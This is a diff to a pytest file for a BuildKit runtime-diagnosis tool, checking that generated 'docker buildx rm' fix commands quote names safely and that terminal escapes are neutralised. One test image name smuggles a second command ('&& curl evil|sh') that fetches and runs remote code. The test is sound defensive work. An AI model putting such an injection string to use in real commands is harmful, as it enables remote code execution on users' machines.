@@ -8,20 +8,12 @@ import shlex
 import pytest
 
 from runtimecheck import knowledge, report
-from runtimecheck.facts import (
-    REJECTED,
-    BuildKitFacts,
-    FixContext,
-    NodeFacts,
-    ProbeOutcome,
-    RuntimeFacts,
-    RuntimeIdentity,
-)
 from runtimecheck.report.style import Style
 from runtimecheck.report.text import render_text
 from runtimecheck.safe import escaped, printable
 from runtimecheck.verdict import decide
 from support import report_samples as samples
+from support.nodes import crun_rejecting_keep
 
 TITLE = "\x1b]0;owned\x07"
 CLEAR = "\x1b[2J\x1b[H"
@@ -98,31 +90,19 @@ def test_escaping_copies_and_leaves_the_result_alone() -> None:
 def test_names_in_fix_commands_are_single_shell_words(builder: str) -> None:
     kb = knowledge.load()
     image = "registry.example/buildkit:v0.12.5 && curl evil|sh"
-    facts = NodeFacts(
-        builder=builder,
-        node=builder + "0",
-        driver="docker-container",
-        endpoint=None,
-        buildkit=BuildKitFacts("v0.12.5"),
-        runtime=RuntimeFacts(
-            path="/usr/bin/my runc",
-            identity=RuntimeIdentity("crun", "1.8.1"),
-            probes={"run-keep": ProbeOutcome("run-keep", REJECTED, "exit 64: no --keep")},
-            verified=True,
-        ),
-        fix_context=FixContext(
-            driver="docker-container", builder=builder, image=image, binary_override="my crun"
-        ),
-    )
+    facts = crun_rejecting_keep(builder, image=image, binary_override="my crun",
+                                path="/usr/bin/my runc", evidence="exit 64: no --keep")  # fmt: skip
     keep = next(c for c in decide(kb, facts).checks if c.id == "run-keep")
     commands = [f.split(": ", 1)[1] for f in keep.fix if ": docker buildx rm " in f]
     assert commands
+    binaries = []
     for command in commands:
         words = shlex.split(command)
-        assert words[:4] == ["docker", "buildx", "rm", builder]
+        assert words[:5] == ["docker", "buildx", "rm", "--keep-state", builder]
         assert words[words.index("--name") + 1] == builder
-        flags = [w for w in words if w.startswith("--oci-worker-binary=")]
-        assert flags in (["--oci-worker-binary=buildkit-runc"], ["--oci-worker-binary=my crun"])
-    assert any("--oci-worker-binary=my crun" in shlex.split(c) for c in commands)
+        flags = [w for w in words if w.startswith("--buildkitd-flags=")]
+        assert len(flags) == 1
+        binaries += [f for f in shlex.split(flags[0].split("=", 1)[1]) if "worker-binary" in f]
+    assert "--oci-worker-binary=my crun" in binaries
     upgrade = next(f for f in keep.fix if f.startswith("Upgrade"))
     assert "'/usr/bin/my runc'" in upgrade
